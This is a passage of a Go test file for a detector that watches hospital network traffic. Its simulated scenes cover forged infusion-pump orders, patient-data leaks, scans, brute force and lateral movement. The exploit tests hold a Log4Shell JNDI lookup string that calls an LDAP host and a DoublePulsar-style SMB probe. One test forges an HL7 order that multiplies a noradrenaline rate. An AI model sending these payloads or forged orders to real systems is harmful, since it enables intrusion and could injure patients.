// SPDX-FileCopyrightText: 2026 The Myelin authors
// SPDX-License-Identifier: Apache-2.0

package watch

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	crand "crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"math/big"
	"net"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/myelin-health/myelin/device"
	"github.com/myelin-health/myelin/event"
	"github.com/myelin-health/myelin/finding"
	"github.com/myelin-health/myelin/flow"
	"github.com/myelin-health/myelin/proto/smb"
	"github.com/myelin-health/myelin/proto/snmp"
	"github.com/myelin-health/myelin/wire"
)

// A detection is a scene, and what is to be found in it of one kind.
type detection struct {
	name       string
	kind       finding.Kind
	baseline   *Baseline
	scene      func(*scene)
	confidence device.Confidence // none: nothing must be found
	count      uint64            // of sightings; 0: any
	harm       device.Harm       // 0: any
	title      string            // a part of it
}

func expects(links ...Link) *Baseline {
	b := &Baseline{Links: map[Link]bool{}, Guards: map[string]string{}, Names: map[string]bool{}}
	for _, l := range links {
		b.Links[l] = true
	}
	return b
}

func TestDetections(t *testing.T) {
	seen := map[finding.Kind][2]bool{}
	for _, d := range slices.Concat(therapyDetections, recordDetections, scanDetections, accessDetections, networkDetections, outsideDetections, weaknessDetections, radioDetections) {
		t.Run(d.kind.String()+"/"+d.name, func(t *testing.T) {
			s := newScene()
			d.scene(s)
			r := s.play(t, Config{Baseline: d.baseline})
			var found []finding.Finding
			for _, f := range r.Findings {
				if f.Kind == d.kind {
					found = append(found, f)
				}
			}
			if d.confidence == device.NoConfidence {
				if len(found) > 0 {
					t.Fatalf("found: %+v", found)
				}
				return
			}
			if len(found) != 1 {
				t.Fatalf("%d findings, want 1; all: %+v", len(found), r.Findings)
			}
			f := found[0]
			if f.Confidence != d.confidence || d.count != 0 && f.Count != d.count || d.harm != 0 && f.Harm != d.harm || !strings.Contains(f.Title, d.title) {
				t.Errorf("%q: confidence %v, count %d, harm %v; want %v, %d, %v, %q", f.Title, f.Confidence, f.Count, f.Harm, d.confidence, d.count, d.harm, d.title)
			}
			if len(f.Sightings) == 0 || f.Sightings[0].Packet == 0 || f.Sightings[0].Note == "" || f.Advice == "" || f.First > f.Last {
				t.Errorf("where to look, and what to do, is missing: %+v", f)
			}
			if f.Privacy != (finding.Kinds[f.Kind].Group == finding.PatientData) || f.Privacy && f.Harm != device.Negligible {
				t.Errorf("disclosure alone is a privacy finding: %v, %v", f.Privacy, f.Harm)
			}
			if finding.Kinds[f.Kind].Unexpected && d.baseline == nil && f.Confidence == device.High {
				t.Error("unexpected with high confidence, and nobody said what is expected")
			}
		})
		s := seen[d.kind]
		s[0] = s[0] || d.confidence == device.NoConfidence
		s[1] = s[1] || d.confidence != device.NoConfidence
		seen[d.kind] = s
	}
	for k := finding.NoKind + 1; int(k) < len(finding.Kinds); k++ {
		if finding.Kinds[k].Group == finding.KnownWeakness {
			continue // from documents, not from a wire
		}
		if seen[k] != [2]bool{true, true} {
			t.Errorf("%v: needs a scene that has it and one that just has not", k)
		}
	}
}

// Manipulated therapy.

func order(id string) string  { return strings.Replace(hl7Order, "ehr-9", id, 1) }
func ack(id string) piece     { return server(mllp(hl7Ack("AA", id))) }
func told1(id string) []piece { return []piece{client(mllp(order(id))), ack(id)} }
func alone(id string) []piece { return []piece{client(mllp(order(id)))} }
func (s *scene) pump()        { s.talk(gate, ehr, 24001, client(mllp(hl7Report))) }
func orders(from string) *Baseline {
	return expects(Link{from, gate, "hl7"}, Link{gate, ehr, ""})
}

// commanded is a command as an observer would tell it.
func (s *scene) commanded(protection device.Protection, verb device.Verb, effect device.Effect) {
	s.said(event.CommandSeen, gate, ehr, event.Int(event.Verb, verb), event.Int(event.Therapy, device.DrugInfusion), event.Int(event.Effect, effect), event.Int(event.Protection, protection))
}

var therapyDetections = []detection{
	{name: "three orders over one link", kind: finding.TherapyCommandUnauthenticated, scene: func(s *scene) {
		s.pump()
		for _, id := range []string{"a", "b", "c"} {
			s.talk(ehr, gate, 24000, told1(id)...)
		}
	}, confidence: device.High, count: 3, harm: device.Catastrophic},
	{name: "and by two senders", kind: finding.TherapyCommandUnauthenticated, scene: func(s *scene) {
		s.talk(ehr, gate, 24000, told1("a")...)
		s.talk(ct1, gate, 24000, told1("b")...)
	}, confidence: device.High, count: 2, title: "(2 senders)"},
	{name: "and by more than can be named", kind: finding.TherapyCommandUnauthenticated, scene: func(s *scene) {
		for i := range maxPeers + 5 {
			s.talk(host(i), gate, 24000, told1("a")...)
		}
	}, confidence: device.High, count: maxPeers + 5, title: "(more than 20 senders)"},
	{name: "for a pump that is not named", kind: finding.TherapyCommandUnauthenticated, scene: func(s *scene) {
		order, _, _ := strings.Cut(hl7Order, "OBX")
		s.talk(ehr, gate, 24000, client(mllp(order)))
	}, confidence: device.High, count: 1, harm: device.Catastrophic},
	{name: "of unknown meaning", kind: finding.TherapyCommandUnauthenticated, scene: func(s *scene) { s.commanded(0, device.NoVerb, device.NoEffect) }, confidence: device.Low},
	{name: "proven", kind: finding.TherapyCommandUnauthenticated, scene: func(s *scene) {
		s.commanded(device.Encrypted|device.Authenticated, device.SetInfusionRate, device.Increases)
	}},
	{name: "only reads", kind: finding.TherapyCommandUnauthenticated, scene: func(s *scene) { s.commanded(0, device.ReadSettings, device.Reads) }},
	{name: "only reports", kind: finding.TherapyCommandUnauthenticated, scene: (*scene).pump},

	{name: "the one that always orders", kind: finding.TherapyCommandUnexpectedSender, scene: func(s *scene) {
		s.talk(ehr, gate, 24000, append(told1("a"), told1("b")...)...)
	}},
	{name: "another one", kind: finding.TherapyCommandUnexpectedSender, scene: func(s *scene) {
		s.pump()
		s.talk(ehr, gate, 24000, told1("a")...)
		s.talk(ct1, gate, 24000, told1("b")...)
	}, confidence: device.Low, count: 1, harm: device.Catastrophic},
	{name: "one that was taken over", kind: finding.TherapyCommandUnexpectedSender, scene: func(s *scene) {
		s.commanded(0, device.SetInfusionRate, device.Increases)
		s.said(event.RemoteExecSeen, laptop, ct1, event.Text(event.Method, "service control manager"))
		s.said(event.CommandSeen, gate, ct1, event.Int(event.Verb, device.SetInfusionRate), event.Int(event.Effect, device.Increases))
	}, confidence: device.Medium},
	{name: "another one under the first one's name", kind: finding.TherapyCommandUnexpectedSender, scene: func(s *scene) {
		named := strings.Replace(order("a"), "|CastorEHR|", "|CastorEHR^ACDE48FFFE000105^EUI-64|", 1)
		s.talk(ehr, gate, 24000, client(mllp(named)))
		s.talk(ct1, gate, 24000, client(mllp(strings.Replace(named, "|a|", "|b|", 1))))
	}, confidence: device.Medium},
	{name: "one that the baseline has", kind: finding.TherapyCommandUnexpectedSender, baseline: orders(ct1), scene: func(s *scene) {
		s.talk(ct1, gate, 24000, told1("b")...)
	}},
	{name: "one that the baseline has not", kind: finding.TherapyCommandUnexpectedSender, baseline: orders(ehr), scene: func(s *scene) {
		s.talk(ct1, gate, 24000, told1("b")...)
	}, confidence: device.High},

	{name: "an answered order, from another place", kind: finding.TherapyCommandReplayed, scene: func(s *scene) {
		s.talk(ehr, gate, 24000, told1("a")...)
		s.wait(time.Hour)
		s.talk(ct1, gate, 24000, told1("a")...)
	}, confidence: device.High, count: 1},
	{name: "an order that was not answered, by the stand-by", kind: finding.TherapyCommandReplayed, scene: func(s *scene) {
		s.talk(ehr, gate, 24000, alone("a")...)
		s.talk("10.20.1.6", gate, 24000, told1("a")...)
	}},
	{name: "resent by the same sender", kind: finding.TherapyCommandReplayed, scene: func(s *scene) {
		s.talk(ehr, gate, 24000, told1("a")...)
		s.talk(ehr, gate, 24000, told1("a")...)
	}},
	{name: "the same breakfast bolus every day", kind: finding.TherapyCommandReplayed, scene: func(s *scene) {
		for _, id := range []string{"a", "b", "c"} {
			s.talk(ehr, gate, 24000, told1(id)...)
			s.wait(24 * time.Hour)
		}
	}},
	{name: "the same id to another device", kind: finding.TherapyCommandReplayed, scene: func(s *scene) {
		s.talk(ehr, gate, 24000, told1("a")...)
		s.talk(ct1, "10.20.3.11", 24000, told1("a")...)
	}},
	{name: "without anything that must be fresh", kind: finding.TherapyCommandReplayed, scene: func(s *scene) {
		for _, from := range []string{ehr, ct1} {
			s.said(event.CommandSeen, gate, from, event.Int(event.Verb, device.DeliverBolus), event.Int(event.Effect, device.Increases), event.Int(event.Repeat, 7))
			s.said(event.CommandAnswered, gate, from, event.Int(event.Outcome, event.Succeeded))
		}
	}},
}

// What was ordered, and in whose name, stands in the finding; whoever orders in
// the name of another does not get that one's identity.
func TestForgedOrder(t *testing.T) {
	const euiEHR = "ACDE48FFFE000105"
	signed := func(id, rate string) []byte {
		return mllp(strings.NewReplacer("|CastorEHR|StAda|FlowLink", "|CastorEHR^"+euiEHR+"^EUI-64|StAda|FlowLink", "|4|", "|"+rate+"|",
			"ORC|", "PV1||I|ICU^3^3\rORC|").Replace(order(id)))
	}
	admits := mllp(strings.Replace(hl7Admission, "|CastorEHR|", "|CastorEHR^"+euiEHR+"^EUI-64|", 1))
	s := newScene()
	s.talk(gate, ehr, 2575, client(mllp(hl7Report)))
	s.talk(ehr, gate, 2575, client(admits))
	s.talk(ehr, gate, 24000, client(signed("a", "0.2")))
	s.talk(ct1, gate, 24000, client(signed("b", "4")))
	s.talk(ct1, gate, 24000, client(signed("c", "0.1")))
	r := s.play(t, Config{})
	for i := range r.Devices {
		d := &r.Devices[i]
		ip := slices.ContainsFunc(d.Addresses, func(a device.Address) bool { return a.Value == ehr })
		named := slices.Contains(d.Addresses, device.Address{Kind: device.EUI64, Value: euiEHR})
		if ip != named {
			t.Errorf("%v: the name of the hospital information system", d.Addresses)
		}
	}
	const ordered = "set infusion rate: Noradrenaline 0.2 → 4 mcg/kg/min (20 times as much), ICU bed 3"
	for _, f := range r.Findings {
		switch f.Kind {
		case finding.TherapyCommandUnauthenticated:
			if len(f.Peers) != 2 || f.Peers[0] != ehr || f.Peers[1] != ct1 || f.Peer != ehr || f.Protocol != "hl7" {
				t.Errorf("senders %q, first %s, over %q", f.Peers, f.Peer, f.Protocol)
			}
			if note := f.Sightings[0].Note; note != "set infusion rate: Noradrenaline 0.2 mcg/kg/min (as now), ICU bed 3, pump "+p3 {
				t.Errorf("note %q", note)
			}
		case finding.TherapyCommandUnexpectedSender:
			if !strings.HasSuffix(f.Title, "("+ordered+", and others)") || f.Peer != ct1 || f.Peers != nil || f.Protocol != "hl7" {
				t.Errorf("title %q, by %s and %q, over %q", f.Title, f.Peer, f.Peers, f.Protocol)
			}
			want := ordered + ", pump " + p3 + ", in the name of CastorEHR " + euiEHR + ", from another address under the name of the sender before"
			if f.Sightings[0].Note != want || !strings.Contains(f.Sightings[1].Note, "0.2 → 0.1 mcg/kg/min, ICU") {
				t.Errorf("notes %+v", f.Sightings)
			}
		}
	}
}

// An amount that is told in another unit is not compared with what it is not
// comparable to.
func TestChange(t *testing.T) {
	for _, tt := range [][3]string{
		{"", "4 ug/kg/min", "4 mcg/kg/min"},
		{"2 [iU]", "25.5 [iU]", "2 → 25.5 units (12.8 times as much)"},
		{"0.2 ug/kg/min", "4 ug/kg/min", "0.2 → 4 mcg/kg/min (20 times as much)"},
		{"0.20 ug/kg/min", "0.2 ug/kg/min", "0.2 mcg/kg/min (as now)"},
		{"10 mL/h", "1 mL/h", "10 → 1 mL/h"},
		{"10 mL/h", "15 mL/h", "10 → 15 mL/h"},
		{"0 mL/h", "15 mL/h", "0 → 15 mL/h"},
		{"10.5 mL/h", "4 ug/kg/min", "10.5 mL/h → 4 mcg/kg/min"},
		{"1 mg/h", "100 ug/min", "1 mg/h → 100 mcg/min (6 times as much)"},
	} {
		now, _ := device.ParseQuantity(tt[0])
		value, err := device.ParseQuantity(tt[1])
		if err != nil {
			t.Fatal(tt, err)
		}
		if got := change(now, value); got != tt[2] {
			t.Errorf("%s, now %s: %q", tt[1], tt[0], got)
		}
	}
}

// Patient data.

// moved are records of patients n to m, sent on to one station.
func (s *scene) moved(from, to string, n, m int) {
	for i := n; i <= m; i++ {
		s.said(event.RecordsMoved, from, to, event.Text(event.Protocol, "dicom"), event.Text(event.Operation, "C-STORE"), event.Int(event.Subject, i), event.Int(event.Count, 1))
	}
}

// asked is a C-MOVE by ct-1 to the archive.
func (s *scene) asked(destination string) {
	s.said(event.RecordsRequested, ct1, pacs, event.Text(event.Protocol, "dicom"), event.Text(event.Operation, "C-MOVE"), event.Text(event.Destination, destination))
}

// serves makes a host the server of a protocol.
func (s *scene) serves(ip, protocol string, port int) {
	s.said(event.ProtocolSeen, mon3, ip, event.Text(event.Protocol, protocol), event.Int(event.Port, port))
}

var recordDetections = []detection{
	{name: "an admission", kind: finding.PHIInClear, scene: func(s *scene) {
		s.talk(ehr, gate, 24000, client(mllp(hl7Admission)))
	}, confidence: device.High, title: "(name, birth date, sex, record number, 1 patient)"},
	{name: "before a report of more than a megabyte", kind: finding.PHIInClear, scene: func(s *scene) {
		s.talk(ehr, gate, 24000, client(mllp(hl7Admission+"OBX|1|ED|||^application^pdf^Base64^"+strings.Repeat("QUJD", 300_000)+"\r")))
	}, confidence: device.High, title: "(name, birth date, sex, record number, 1 patient)"},
	{name: "before a long report without MLLP", kind: finding.PHIInClear, scene: func(s *scene) {
		s.talk(ehr, gate, 24000, client([]byte(hl7Admission+"OBX|1|ED|||^application^pdf^Base64^"+strings.Repeat("QUJD", 30_000)+"\r")))
	}, confidence: device.High, title: "(name, birth date, sex, record number, 1 patient)"},
	{name: "in the body of a request", kind: finding.PHIInClear, scene: func(s *scene) {
		s.talk(ehr, gate, 24000, ask("POST /adt HTTP/1.1\r\nContent-Type: x-application/hl7-v2+er7", strings.Replace(hl7Admission, "PID", "EVN|A01\rPID", 1)), reply("200 OK", ""))
	}, confidence: device.High, title: "(name, birth date, sex, record number, 1 patient)"},
	{name: "two patients, several messages", kind: finding.PHIInClear, scene: func(s *scene) {
		for range 3 {
			s.talk(ehr, gate, 24000, client(mllp(hl7Admission, strings.Replace(hl7Admission, "SA-1005", "SA-1001", 1))))
		}
	}, confidence: device.High, title: "2 patients"},
	{name: "encrypted", kind: finding.PHIInClear, scene: func(s *scene) {
		s.said(event.PatientDataSeen, ehr, gate, event.Text(event.Protocol, "hl7"), event.Int(event.Fields, event.FieldName), event.Int(event.Subject, 1), event.Int(event.Protection, device.Encrypted))
	}},
	{name: "orders and no patient", kind: finding.PHIInClear, scene: func(s *scene) {
		s.talk(ehr, gate, 24000, client(mllp(hl7Ack("AA", "x"))))
	}},

	{name: "a hundred patients to a client", kind: finding.BulkRecordAccess, scene: func(s *scene) { s.moved(pacs, laptop, 1, 100); s.moved(pacs, laptop, 1, 50) }, confidence: device.Low, count: 150, title: "100 patients"},
	{name: "ninety-nine", kind: finding.BulkRecordAccess, scene: func(s *scene) { s.moved(pacs, laptop, 1, 99); s.moved(pacs, laptop, 1, 99) }},
	{name: "over two hours", kind: finding.BulkRecordAccess, scene: func(s *scene) {
		s.moved(pacs, laptop, 1, 60)
		s.wait(61 * time.Minute)
		s.moved(pacs, laptop, 61, 120)
	}},
	{name: "to an archive", kind: finding.BulkRecordAccess, scene: func(s *scene) {
		s.serves("10.20.8.21", "dicom", 104)
		s.moved(pacs, "10.20.8.21", 1, 1000)
	}},
	{name: "to a third station", kind: finding.BulkRecordAccess, scene: func(s *scene) {
		s.called(ct1, "CT1")
		s.asked("XFER1")
		s.called(laptop, "XFER1")
		s.serves(laptop, "dicom", 104)
		s.moved(pacs, laptop, 1, 400)
	}, confidence: device.Low, title: "400 patients"},
	{name: "to the outside", kind: finding.BulkRecordAccess, scene: func(s *scene) { s.moved(pacs, away, 1, 100) }, confidence: device.Medium},
	{name: "that the baseline has, begun by the other side", kind: finding.BulkRecordAccess, baseline: expects(Link{laptop, pacs, "dicom"}), scene: func(s *scene) { s.moved(pacs, laptop, 1, 500) }},
	{name: "that the baseline has not", kind: finding.BulkRecordAccess, baseline: expects(Link{ct1, pacs, "dicom"}), scene: func(s *scene) {
		s.serves("10.20.8.21", "dicom", 104)
		s.moved(pacs, "10.20.8.21", 1, 100)
	}, confidence: device.High},

	{name: "to a third station", kind: finding.RecordsToUnexpectedPeer, scene: func(s *scene) { s.called(ct1, "CT1"); s.asked("XFER1"); s.asked("XFER1") }, confidence: device.Low, count: 2},
	{name: "to itself", kind: finding.RecordsToUnexpectedPeer, scene: func(s *scene) { s.called(ct1, "CT1"); s.asked("CT1") }},
	{name: "to itself by a name that is heard later", kind: finding.RecordsToUnexpectedPeer, scene: func(s *scene) { s.asked("CT1_STORE"); s.called(ct1, "CT1_STORE") }},
	{name: "on the list", kind: finding.RecordsToUnexpectedPeer, baseline: &Baseline{Names: map[string]bool{"WS2": true}}, scene: func(s *scene) { s.asked("WS2") }},
	{name: "not on the list", kind: finding.RecordsToUnexpectedPeer, baseline: expects(), scene: func(s *scene) { s.asked("XFER1") }, confidence: device.High},
	{name: "outside", kind: finding.RecordsToUnexpectedPeer, scene: func(s *scene) { s.moved(pacs, away, 1, 3) }, confidence: device.Medium, count: 3, title: "3 patients"},
	{name: "outside, as expected", kind: finding.RecordsToUnexpectedPeer, baseline: expects(Link{pacs, away, ""}), scene: func(s *scene) { s.moved(pacs, away, 1, 3) }},
}

// The way into the network.

func (s *scene) sweep(n int, try func(dst string)) {
	for i := range n {
		try(host(i))
		s.wait(100 * time.Millisecond)
	}
}

// knock sends datagrams to n ports of ct-1.
func (s *scene) knock(n int, first uint16, b []byte, times int) {
	for range times {
		for p := range n {
			s.udp(laptop, 5000, ct1, first+uint16(p), b)
		}
	}
}

var scanDetections = []detection{
	{name: "25 addresses that do not answer", kind: finding.ScanHorizontal, scene: func(s *scene) { s.sweep(25, func(dst string) { s.syn(laptop, dst, 445) }) }, confidence: device.High, count: 25, harm: device.Negligible},
	{name: "24", kind: finding.ScanHorizontal, scene: func(s *scene) { s.sweep(24, func(dst string) { s.syn(laptop, dst, 445); s.syn(laptop, dst, 445) }) }},
	{name: "25 that refuse", kind: finding.ScanHorizontal, scene: func(s *scene) { s.sweep(25, func(dst string) { s.refused(laptop, dst, 445) }) }, confidence: device.High},
	{name: "25 over half an hour", kind: finding.ScanHorizontal, scene: func(s *scene) {
		for i := range 25 {
			s.syn(laptop, host(i), 445)
			s.wait(70 * time.Second)
		}
	}},
	{name: "half-open", kind: finding.ScanHorizontal, scene: func(s *scene) {
		s.sweep(25, func(dst string) {
			s.syn(laptop, dst, 445)
			s.segment(dst, 445, laptop, s.port, wire.SYN|wire.ACK, 1, 1001, nil)
			s.segment(laptop, s.port, dst, 445, wire.RST, 1001, 0, nil)
		})
	}, confidence: device.High},
	{name: "stealth", kind: finding.ScanHorizontal, scene: func(s *scene) {
		s.sweep(25, func(dst string) { s.port++; s.segment(laptop, s.port, dst, 445, wire.FIN, 1, 0, nil) })
	}, confidence: device.High},
	{name: "pings", kind: finding.ScanHorizontal, scene: func(s *scene) { s.sweep(25, func(dst string) { s.ping(laptop, dst, false) }) }, confidence: device.High},
	{name: "unreachable messages", kind: finding.ScanHorizontal, scene: func(s *scene) {
		s.sweep(100, func(dst string) { s.ip(pacs, dst, wire.ProtoICMP, []byte{3, 3, 0, 0, 0, 0, 0, 0, 0x45}, 0) })
	}},
	{name: "datagrams to a probed port", kind: finding.ScanHorizontal, scene: func(s *scene) { s.sweep(25, func(dst string) { s.udp(laptop, 5000, dst, 161, snmpAsk) }) }, confidence: device.High},
	{name: "datagrams to another", kind: finding.ScanHorizontal, scene: func(s *scene) { s.sweep(100, func(dst string) { s.udp(laptop, 5000, dst, 514, []byte("<1>x")) }) }},
	{name: "empty datagrams to any port", kind: finding.ScanHorizontal, scene: func(s *scene) { s.sweep(25, func(dst string) { s.udp(laptop, 5000, dst, 9999, nil) }) }, confidence: device.High},
	{name: "24 empty datagrams", kind: finding.ScanHorizontal, scene: func(s *scene) { s.sweep(24, func(dst string) { s.udp(laptop, 5000, dst, 9999, nil) }) }},
	{name: "empty datagrams that trace a route", kind: finding.ScanHorizontal, scene: func(s *scene) { s.sweep(100, func(dst string) { s.udp(laptop, 5000, dst, 33434, nil) }) }},
	{name: "has the harm of what it looks for, one step away", kind: finding.ScanHorizontal, scene: func(s *scene) {
		s.talk(vent3, mon3, 9000, client([]byte("x")))
		s.is(vent3, "V2", device.Ventilation)
		s.sweep(24, func(dst string) { s.syn(laptop, dst, 445) })
		s.refused(laptop, vent3, 445)
	}, confidence: device.High, harm: device.Critical},

	{name: "30 ports", kind: finding.ScanVertical, scene: func(s *scene) {
		for p := range uint16(30) {
			s.refused(laptop, ct1, 100+p)
		}
	}, confidence: device.High, count: 30},
	{name: "30 ports for datagrams", kind: finding.ScanVertical, scene: func(s *scene) { s.knock(30, 100, []byte("x"), 2) }, confidence: device.High, count: 30},
	{name: "29 ports for datagrams", kind: finding.ScanVertical, scene: func(s *scene) { s.knock(29, 100, []byte("x"), 4) }},
	{name: "30 high ports, empty datagrams", kind: finding.ScanVertical, scene: func(s *scene) { s.knock(30, 20000, nil, 1) }, confidence: device.High, count: 30},
	{name: "30 ports, said to be unreachable", kind: finding.ScanVertical, scene: func(s *scene) {
		for p := range uint16(30) {
			s.udp(laptop, 5000, ct1, 100+p, nil)
			s.ip(ct1, laptop, wire.ProtoICMP, append([]byte{3, 3, 0, 0, 0, 0, 0, 0}, s.frames[len(s.frames)-1].Data[14:]...), 0)
		}
	}, confidence: device.High, count: 30},
	{name: "30 ports that are asked again and again", kind: finding.ScanVertical, scene: func(s *scene) {
		for port := range uint16(6) { // a new source port for each try
			for p := range uint16(30) {
				s.udp(laptop, 5000+port, ct1, 100+p, nil)
			}
		}
	}, confidence: device.High, count: 180},
	{name: "30 ports that answer", kind: finding.ScanVertical, scene: func(s *scene) {
		for p := range uint16(40) {
			s.udp(laptop, 5000, ct1, 100+p, []byte("x"))
			s.udp(ct1, 100+p, laptop, 5000, []byte("y"))
		}
	}},
	{name: "a route that is traced", kind: finding.ScanVertical, scene: func(s *scene) { s.knock(90, 33434, nil, 1) }},
	{name: "voices", kind: finding.ScanVertical, scene: func(s *scene) { s.knock(200, 16384, []byte("\x80\x00rtp"), 3) }},
	{name: "streams to low ports", kind: finding.ScanVertical, scene: func(s *scene) { s.knock(40, 900, []byte("x"), scanDatagrams+1) }},
	{name: "answers whose questions were not captured", kind: finding.ScanVertical, scene: func(s *scene) {
		for p := range uint16(100) {
			s.udp("10.20.1.2", 53, ct1, 40000+p, []byte("answer"))
			s.udp("10.20.1.2", 53, ct1, 40000+p, nil)
		}
	}},
	{name: "29 ports", kind: finding.ScanVertical, scene: func(s *scene) {
		for p := range uint16(29) {
			s.refused(laptop, ct1, 100+p)
			s.refused(laptop, ct1, 100+p)
		}
	}},
	{name: "30 ports that talk", kind: finding.ScanVertical, scene: func(s *scene) {
		for p := range uint16(40) {
			s.talk(laptop, ct1, 50000+p, server([]byte("data")))
		}
	}},
}

var (
	snmpAsk    = snmp2c("ada", snmpPDU(snmp.GetRequest, snmpBinding(snmp.SysDescr, 5, "")))
	snmpAnswer = snmp2c("ada", snmpPDU(snmp.Response, snmpBinding(snmp.SysDescr, 4, "Linux mon-3 4.4.0")))
)

// ftp is a login that is refused, or not.
func (s *scene) ftp(from, to string, accepted bool) {
	answer := "530 Login incorrect.\r\n"
	if accepted {
		answer = "230 ok\r\n"
	}
	s.talk(from, to, 21, server([]byte("220 lab-1 ready\r\n")), client([]byte("USER lab\r\n")), server([]byte("331 Password\r\n")), client([]byte("PASS x1\r\n")), server([]byte(answer)))
}

func (s *scene) guesses(n int, gap time.Duration) {
	for range n {
		s.ftp(laptop, ct1, false)
		s.wait(gap)
	}
}

// remote opens a remote desktop.
func (s *scene) remote(from, to string) {
	s.talk(from, to, 3389, client([]byte("\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00")),
		server([]byte("\x03\x00\x00\x13\x0e\xd0\x00\x00\x00\x00\x00\x02\x00\x08\x00\x00\x00\x00\x00")))
}

func (s *scene) ssh(from, to string) {
	s.talk(from, to, 22, server([]byte("SSH-2.0-OpenSSH_9.6\r\n")), client([]byte("SSH-2.0-OpenSSH_9.6\r\n")))
}

func (s *scene) ran(from, to string, outcome event.Result) {
	s.said(event.RemoteExecSeen, from, to, event.Text(event.Protocol, "smb"), event.Text(event.Method, "service control manager"), event.Int(event.Outcome, outcome))
}

// opened is a remote session as an observer would tell it.
func (s *scene) opened(from, to, protocol string) {
	s.said(event.ProtocolSeen, from, to, event.Text(event.Protocol, protocol), event.Int(event.Port, 3389))
	s.said(event.ProtocolSeen, from, to, event.Text(event.Protocol, protocol), event.Int(event.Port, 3389), event.Text(event.Version, "TLS"))
}

var accessDetections = []detection{
	{name: "ten refusals", kind: finding.BruteForce, scene: func(s *scene) { s.guesses(10, time.Second) }, confidence: device.Medium, count: 10, title: "ftp"},
	{name: "nine", kind: finding.BruteForce, scene: func(s *scene) { s.guesses(9, time.Second) }},
	{name: "ten in an hour", kind: finding.BruteForce, scene: func(s *scene) { s.guesses(10, 6*time.Minute) }},
	{name: "thirty", kind: finding.BruteForce, scene: func(s *scene) { s.guesses(30, time.Second) }, confidence: device.High, count: 30},
	{name: "ten, and then one that was accepted", kind: finding.BruteForce, scene: func(s *scene) { s.guesses(10, time.Second); s.ftp(laptop, ct1, true) }, confidence: device.High, count: 11},
	{name: "thirty short SSH sessions", kind: finding.BruteForce, scene: func(s *scene) {
		for range 30 {
			s.ssh(laptop, ct1)
		}
	}, confidence: device.Medium, count: 30},
	{name: "twenty-nine", kind: finding.BruteForce, scene: func(s *scene) {
		for range 29 {
			s.ssh(laptop, ct1)
			s.remote(laptop, ct1)
		}
	}},
	{name: "thirty short remote desktops", kind: finding.BruteForce, scene: func(s *scene) {
		for range 30 {
			s.remote(laptop, ct1)
		}
	}, confidence: device.Medium},
	{name: "forty long sessions", kind: finding.BruteForce, scene: func(s *scene) {
		for range 40 {
			s.talk(laptop, ct1, 22, server([]byte("SSH-2.0-OpenSSH_9.6\r\n")), client([]byte("SSH-2.0-OpenSSH_9.6\r\n")), client(make([]byte, guessBytes)))
		}
	}},

	{name: "a program started", kind: finding.LateralMovement, scene: func(s *scene) { s.is(ct1, "Helia 64", device.Imaging); s.ran(laptop, ct1, event.Succeeded) }, confidence: device.High, harm: device.Minor, title: "service control manager"},
	{name: "a program refused", kind: finding.LateralMovement, scene: func(s *scene) { s.ran(laptop, ct1, event.Failed) }, confidence: device.Medium, title: "refused"},
	{name: "a scanner opens a desktop", kind: finding.LateralMovement, scene: func(s *scene) { s.is(ct1, "Helia 64", device.Imaging); s.remote(ct1, pacs) }, confidence: device.Low, count: 1, title: "rdp"},
	{name: "a scanner opens SSH", kind: finding.LateralMovement, scene: func(s *scene) { s.is(ct1, "Helia 64", device.Imaging); s.ssh(ct1, pacs) }, confidence: device.Low, count: 1, title: "ssh"},
	{name: "a scanner opens SSH to its maker", kind: finding.LateralMovement, scene: func(s *scene) { s.is(ct1, "Helia 64", device.Imaging); s.ssh(ct1, away) }},
	{name: "a workstation opens a desktop", kind: finding.LateralMovement, scene: func(s *scene) { s.is(ct1, "Helia 64", device.Imaging); s.remote(laptop, ct1) }},
	{name: "as the baseline has it", kind: finding.LateralMovement, baseline: expects(Link{ct1, pacs, "rdp"}), scene: func(s *scene) { s.is(ct1, "Helia 64", device.Imaging); s.remote(ct1, pacs) }},
	{name: "as the baseline has it not", kind: finding.LateralMovement, baseline: expects(Link{ct1, pacs, "dicom"}), scene: func(s *scene) { s.is(ct1, "Helia 64", device.Imaging); s.remote(ct1, pacs) }, confidence: device.High},

	{name: "Log4Shell", kind: finding.ExploitAttempt, scene: func(s *scene) {
		s.talk(laptop, pacs, 8042, ask("GET /?x=${jndi:ldap://10.20.8.99/a} HTTP/1.1\r\nHost: pacs", ""), reply("404 Not Found", ""))
	}, confidence: device.High},
	{name: "DoublePulsar", kind: finding.ExploitAttempt, scene: func(s *scene) {
		call := make([]byte, 30)
		call[26], call[28] = 1, smb.Trans2SessionSetup
		s.talk(laptop, ct1, 445, client(smb1(smb.ComTransaction2, 0, 65, call, make([]byte, 12))), server(smb1(smb.ComTransaction2, 0x80, 65, nil, nil)))
	}, confidence: device.High, title: "DoublePulsar"},
	{name: "an urgent pointer of zero", kind: finding.ExploitAttempt, scene: func(s *scene) {
		l := s.open(laptop, mon3, 9000)
		l.send(flow.Client, wire.ACK|wire.URG, []byte("x"))
	}, confidence: device.Medium},
	{name: "an ordinary request", kind: finding.ExploitAttempt, scene: func(s *scene) {
		s.talk(laptop, pacs, 8042, ask("GET /app/explorer.html?x=%24 HTTP/1.1\r\nHost: pacs", ""), reply("404 Not Found", ""))
	}},
}

var (
	macA = net.HardwareAddr{0, 0, 0x5e, 0, 0x53, 0xa}
	macB = net.HardwareAddr{0, 0, 0x5e, 0, 0x53, 0xb}
	macC = net.HardwareAddr{0, 0, 0x5e, 0, 0x53, 0xc}
	vrrp = net.HardwareAddr{0, 0, 0x5e, 0, 1, 7}
)

func (s *scene) claim(gap time.Duration, who ...net.HardwareAddr) {
	for _, hw := range who {
		s.arp("10.20.8.1", hw)
		s.wait(gap)
	}
}

// offer is a DHCP offer of 10.20.x.11 by the server at 10.20.x.y.
func (s *scene) offer(server, router, client string) {
	hw := mac(client)
	ip, own, way := mac(client)[2:], mac(server)[2:], mac(router)[2:]
	b := dhcpMessage(2, "", string(ip), "\x35", "\x02", "\x36", string(own), "\x01", "\xff\xff\xff\x00", "\x03", string(way), "\x06", string(way))
	copy(b[28:], hw)
	s.udp(server, 67, "255.255.255.255", 68, b)
}

// asks are DNS look-ups as an observer would tell them.
func (s *scene) asks(n, length, entropy int) {
	for i := range n {
